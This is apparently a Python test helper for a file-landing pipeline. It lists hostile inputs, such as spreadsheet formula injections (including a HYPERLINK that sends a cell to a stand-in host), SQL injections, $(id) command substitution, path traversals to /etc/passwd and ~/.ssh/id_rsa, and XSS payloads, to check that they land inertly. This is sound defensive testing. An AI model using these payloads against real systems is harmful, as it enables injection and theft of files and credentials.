"""What the hostile tests share: texts that do harm where they are not taken as text, and the judge of what became of a file.

Every input says what must become of it: refused, quarantined by a rule, or landed as this text. The judge lands
the file through the public door and holds the account: every row is in one place, and nothing lies elsewhere.
"""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from conftest import DATE, Desk

from sources.contract import Contract
from sources.delivery import DeliveryError

SECRET = "ZHANGSAN110101199003078515"
"""Stands in the values of every file that is refused; no message may hold it."""

_FORMULAS = (
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.invalid/?\"&A1)", "+1+1|cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "=1+1", "=IMPORTXML(\"http://x.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc", "%0A=1", "=WEBSERVICE(\"x\")",
)  # fmt: skip
_SQL = (
    "'; drop table party; --", "' or '1'='1", "\" or \"\"=\"", "1; attach 'x.db' as x", "$business_date", ":business_date",
    "?", "%s", "{0}", "${HOME}", "$(id)", "`id`", "/* x */", "-- x", "');copy landed to 'x.csv';--", "select 1",
    "read_csv('/etc/passwd')", "\\'; select 1", "$$x$$", "E'\\x41'", "x'41'", "''", "\"\"\"", "pragma version",
    "install httpfs", "load 'x'", "create secret", "{exports}", "{date:%Y}", "%(name)s", "'||version()||'",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "C:\\Windows\\win.ini", "file:///etc/passwd", "~/.ssh/id_rsa",
    "\\\\host\\share", "/dev/zero", "/proc/self/environ", "con", "nul.txt", "a/../../b", "..", ".", "*", "?*[a-z]", "s3://x/y",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;&amp;", "&#x41;", "<!DOCTYPE x>", "[x](javascript:1)",
    "{{7*7}}", "{% x %}", "<%= 1 %>", "\\x41", "\\u0041", "\\n", "%41", "%00", "\\0", "javascript:alert(1)", "<img src=x>",
)  # fmt: skip
_LIKE_VALUES = (
    "NULL", "null", "None", "nil", "NaN", "Infinity", "-Infinity", "true", "false", "0", "-0", "1e308", "1e-308", "1E+9999",
    "0x1F", "1_000", "007", "+1", "1.", ".5", "1,5", "9" * 40, "0000-00-00", "9999-12-31", "0001-01-01", "2026-02-31",
    "[]", "{}", "[1,2]", "{\"a\":1}", "\\N", "#N/A", "#REF!", "undefined", "()", "none", "-", "--", "i", "1970-01-01T00:00:00Z",
)  # fmt: skip
_UNICODE = (
    "中文", "㐀𠀀", "𝟙𝟚", "١٢٣", "Ａ１", "e\u0301", "\u202ecba", "a\u200bb", "a\u200fb", "\u2066x\u2069", "\ufeffx", "x\ufeff",
    "a\u2028b", "a\u2029b", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "ﷺ", "👨‍👩‍👧", "Z̴̧a̵l̶g̷o̸", "İı", "ß", "ﬁ", "\ufffd", "a\u0085b",
)  # fmt: skip
TEXTS = (*_FORMULAS, *_SQL, *_PATHS, *_MARKUP, *_LIKE_VALUES, *_UNICODE)
"""Texts that every reader lands as they are."""

CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 127))
"""Texts with control characters, the line's and the tab's apart."""

NAMES = (
    "'; drop table party; --", '"', "a\"b", "''", "../../etc/passwd", "/etc/passwd", "=cmd|'/C calc'!A0", "select", "_row",
    "_source_line", "_source_file", "_record_hash", "_extra", "c0", "$1", "?", ":x", "%s", "{0}", "a.b", "a b", "*", "中文",
    "\u202ecba", "business_date", "landed", "null", "1", "-- x", "a\\b", "[x]", "x" * 1_000, "@x", "#x", "\U0010ffff",
)  # fmt: skip
"""Names of columns that no contract knows; what stands under them is kept in ``_extra``."""

BROKEN_UTF8 = (
    b"\xff", b"\xfe", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xe0\x9f\xbf", b"\xf0\x80\x80\xaf", b"\xf0\x8f\xbf\xbf",
    b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80", b"\xed\xa0\x80", b"\xed\xaf\xbf", b"\xed\xb0\x80", b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb8\x80", b"\xf4\x90\x80\x80", b"\xf5\x80\x80\x80", b"\xf7\xbf\xbf\xbf", b"\x80", b"\xbf", b"\x80\xbf",
    b"\xe4\xb8", b"\xe4", b"\xf0\x9f\x98", b"\xf0\x9f", b"\xc3", b"\xe4\xb8\xe4\xb8\xad", b"\xc3\x28", b"\xe2\x28\xa1",
    b"\xe2\x82\x28", b"\xf0\x28\x8c\xbc", b"\xf0\x90\x28\xbc", b"\xfe\xff", b"\xff\xfe", b"\xd6\xd0\xb9\xfa",
)  # fmt: skip
"""Overlong, cut off, surrogates, beyond the last character, other encodings."""


@dataclass(frozen=True)
class Line:
    """One row of a file: its bytes without the line end, and what becomes of it: this text, or this rule."""

    raw: bytes
    lands: str | None = None
    rule: str | None = None


@dataclass(frozen=True)
class Case:
    """One file, and what becomes of it: refused with these words, or this many rows landed and quarantined."""

    name: str
    content: bytes
    refused: str = ""
    landed: int = 0
    quarantined: int = 0


def distinct(*inputs: Sequence[bytes]) -> int:
    """How many different inputs there are."""
    return len({each for part in inputs for each in part})


def judge(desk: Desk, contract: Contract, case: Case, name: str, called: Sequence[str] = ()) -> list[dict[str, Any]]:
    """Land the content under a name; hold what became of it against what the case says. Returns the landed rows.

    A refusal must name the file, or what it is ``called`` instead.
    """
    path = desk.put(name, case.content)
    try:
        return _landed(desk, contract, case)
    except DeliveryError as error:
        message = str(error)
        assert case.refused, f"{case.name}: refused, should land: {message}"
        assert any(each in message for each in called or (name,)) and case.refused in message, f"{case.name}: {message}"
        assert SECRET not in message and len(message) < 3_000, f"{case.name}: {message[:300]}"
        return []
    finally:
        path.unlink()
        nothing_elsewhere(desk)


def _landed(desk: Desk, contract: Contract, case: Case) -> list[dict[str, Any]]:
    obj = contract.objects[0]
    result = desk.land_system(contract)[obj.name]
    rows, quarantine = desk.rows(obj.table), desk.quarantine(obj.table)
    assert not case.refused, f"{case.name}: {len(rows)} landed, should be refused: {case.refused}"
    assert (len(rows), len(quarantine)) == (case.landed, case.quarantined), (case.name, rows[:9], quarantine[:9])
    assert result.rows_delivered == len(rows) + len(quarantine), case.name
    return rows


def outcomes(desk: Desk, contract: Contract) -> Mapping[int, tuple[str | None, str | None, bytes | None]]:
    """By line: the landed text of ``note``, or the rule and the raw bytes of quarantine."""
    result = desk.land(contract)
    table = contract.objects[0].table
    rows, quarantine = desk.rows(table), desk.quarantine(table)
    found = {row["_source_line"]: (row["note"], None, None) for row in rows}
    found |= {row["source_line"]: (None, row["rule"], row["raw"]) for row in quarantine}
    assert len(found) == len(rows) + len(quarantine) == result.rows_delivered
    nothing_elsewhere(desk)
    return found


def nothing_elsewhere(desk: Desk) -> None:
    """Assert that a landing left files only where partitions and manifests lie."""
    lake = {path.name for path in desk.lake.rglob("*") if path.is_file()}
    assert lake <= {"data.parquet", "manifest.json"}, lake
    assert {path.name for path in desk.root.iterdir()} <= {"exports", "lake", "spill"}
    assert {path.name for path in desk.exports.iterdir()} == {"core"}
    assert str(DATE) in "".join(str(path) for path in desk.lake.rglob("data.parquet")) or not lake
